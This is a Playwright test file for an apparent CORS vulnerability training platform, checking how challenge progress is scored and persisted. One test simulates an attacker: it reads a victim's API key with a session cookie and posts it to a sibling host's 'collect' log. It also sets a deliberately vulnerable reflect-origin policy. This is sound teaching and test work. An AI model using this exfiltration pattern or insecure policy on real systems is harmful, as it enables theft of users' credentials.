import { expect, test, type APIRequestContext } from '@playwright/test';
import { ChallengesPage } from './pages/ChallengesPage.ts';
import { WorkshopParticipantPage } from './pages/WorkshopPage.ts';
import { sandboxName } from './support/sandboxName.ts';
import { testOrigins } from './support/testOrigins.ts';
import { WorkshopServer } from './support/workshopServer.testkit.ts';

/**
 * One truth of progress: the server decides exploited (from an attacker seat, in a browser) and
 * fixed (the winning exploit replayed against the live policy), the list shows it, reloads and
 * workshop restarts keep it.
 */
const { stage } = testOrigins;
const lax = 'Log in (cookie, SameSite=Lax)';
const vulnerable = { origin: { mode: 'reflect' }, credentials: true };
const onlyTheApp = (victimApp: string) => ({
  origin: { mode: 'list', allow: [victimApp] },
  credentials: true,
});

// Three tabs and several policy edits per test: Firefox types key by key, and CI has 2 cores.
test.describe.configure({ timeout: 120_000 });

/**
 * A request to a stage host as curl sends it: to loopback with the host name in `Host` (Node does
 * not resolve `*.localhost`), no `Origin`, the cookies the context kept.
 */
function stageCurl(request: APIRequestContext, origin: string, path: string, init: { data?: string } = {}) {
  const url = new URL(origin);
  const target = `http://127.0.0.1:${url.port}${path}`;
  const headers = { host: url.host };
  return init.data === undefined
    ? request.get(target, { headers, maxRedirects: 0 })
    : request.post(target, { headers, data: init.data });
}

test('a fix reverted un-fixes the challenge, and the list keeps its state across a reload', async ({
  page,
  request,
}, testInfo) => {
  const ui = new ChallengesPage(page, sandboxName(testInfo));
  await ui.start('reflect-sibling');
  await expect(ui.listEntry('reflect-sibling')).toHaveAttribute('data-state', 'started');
  await ui.victimLogIn(lax);
  expect(await ui.exploitRun()).toBe('Exploit finished.');
  await expect(ui.attemptState).toHaveText('Exploited');
  await expect(page.getByTestId('attempt-evidence')).toContainText(
    /GET \/api-key from Origin: http:\/\/blog\.victim\.localhost:\d+, with the victim’s session/,
  );

  // The server replays the exploit against each new policy: no second run needed.
  await ui.policyPut(request, onlyTheApp(stage.victimApp));
  await expect(ui.attemptState).toHaveText('Fixed');
  await expect(ui.listEntry('reflect-sibling')).toHaveAttribute('data-state', 'fixed');
  await expect(ui.listEntry('reflect-sibling')).toContainText('Fixed');
  await ui.policyPut(request, vulnerable);
  await expect(ui.attemptState).toHaveText('Exploited');
  await expect(ui.listEntry('reflect-sibling')).toHaveAttribute('data-state', 'exploited');
  // Switching the CORS layer off is no fix.
  await ui.policyPut(request, { ...vulnerable, enabled: false });
  await expect(ui.blockedItem).toHaveAttribute('data-done', 'false');
  await ui.policyPut(request, onlyTheApp(stage.victimApp));
  await expect(ui.attemptState).toHaveText('Fixed');

  // Each challenge has its own URL; the state comes from the server.
  await expect(page).toHaveURL(ui.url('reflect-sibling'));
  await page.reload();
  await expect(ui.listEntry('reflect-sibling')).toHaveAttribute('data-state', 'fixed');
  await expect(ui.listEntry('null-origin')).toHaveAttribute('data-state', 'none');
  await expect(ui.listEntry('null-origin')).toContainText('Not started');
  // Titles with backticks show code.
  await expect(ui.listEntry('null-origin').locator('code')).toHaveText('null');

  // At 1024×768 the started challenge sits beside the list, inside the page.
  await page.setViewportSize({ width: 1024, height: 768 });
  // Measured until the layout has settled at the new size (a lazy part may still be arriving).
  await expect
    .poll(async () => {
      const list = await page.getByRole('navigation', { name: 'Challenges' }).boundingBox();
      const panel = await page.getByRole('article').first().boundingBox();
      const scrollWidth = await page.evaluate(() => document.documentElement.scrollWidth);
      return {
        besideList: panel !== null && list !== null && panel.x >= list.x + list.width,
        insidePage: panel !== null && panel.x + panel.width <= 1024 && scrollWidth <= 1024,
      };
    })
    .toEqual({ besideList: true, insidePage: true });
});

test('a curl-only "exploit" and a hand-posted "blocked" report count for nothing', async ({
  page,
  request,
}, testInfo) => {
  const ui = new ChallengesPage(page, sandboxName(testInfo));
  await ui.start('reflect-sibling');
  const control = `${testOrigins.app}/control/sandboxes/${encodeURIComponent(ui.sandbox)}/challenge`;
  const { stageToken } = (await (await request.get(control)).json()) as { stageToken: string };
  const at = `/s/${stageToken}`;

  // Log in, read the key without an Origin, post it to the attacker's collect log.
  expect((await stageCurl(request, stage.victimApi, `${at}/login?session=cookie-lax`)).status()).toBe(303);
  const key = await stageCurl(request, stage.victimApi, `${at}/api-key`);
  expect(key.status()).toBe(200);
  expect(
    (await stageCurl(request, stage.sibling, `${at}/collect`, { data: await key.text() })).status(),
  ).toBe(204);
  await expect(ui.prizes).toHaveCount(1);
  await expect(ui.attemptState).toHaveText('Started');

  // A "blocked" report after a cosmetic change fixes nothing either.
  await ui.policyPut(request, { ...vulnerable, maxAge: 1 });
  await stageCurl(request, stage.sibling, `${at}/collect`, { data: 'blocked: TypeError: Failed to fetch' });
  await expect(ui.collected).toHaveCount(2);
  await expect(ui.attemptState).toHaveText('Started');
  await expect(ui.listEntry('reflect-sibling')).toHaveAttribute('data-state', 'started');
});

test('a workshop participant’s fixed challenge is still marked after a server restart', async ({
  browser,
}, testInfo) => {
  // Chromium and Firefox may run this test at once: each gets its own ports, beside the run's own
  // (E2E_APP_PORT moves them too, so two runs on one machine do not collide).
  const base = (testInfo.project.name === 'firefox' ? 10 : 0) + testOrigins.appPort + 207;
  const server = new WorkshopServer('localhost', {
    app: base,
    api: base - 1200,
    other: base + 1,
    stage: base + 2,
  });
  await server.start();
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await new WorkshopParticipantPage(page).join(server.joinUrl, 'Ada');
    const ui = new ChallengesPage(page, '');
    await ui.startAt(`${server.app}/challenges/reflect-sibling`);
    await ui.victimLogIn(lax);
    expect(await ui.exploitRun()).toBe('Exploit finished.');
    await ui.policyReplace(onlyTheApp(`http://app.victim.localhost:${server.ports.stage}`));
    await expect(ui.listEntry('reflect-sibling')).toHaveAttribute('data-state', 'fixed');

    await server.stop();
    await server.start();
    await page.goto(`${server.app}/challenges/reflect-sibling`);
    await expect(ui.listEntry('reflect-sibling')).toHaveAttribute('data-state', 'fixed');
    await expect(ui.listEntry('reflect-sibling')).toContainText('Fixed');
  } finally {
    await context.close();
    await server.dispose();
  }
});
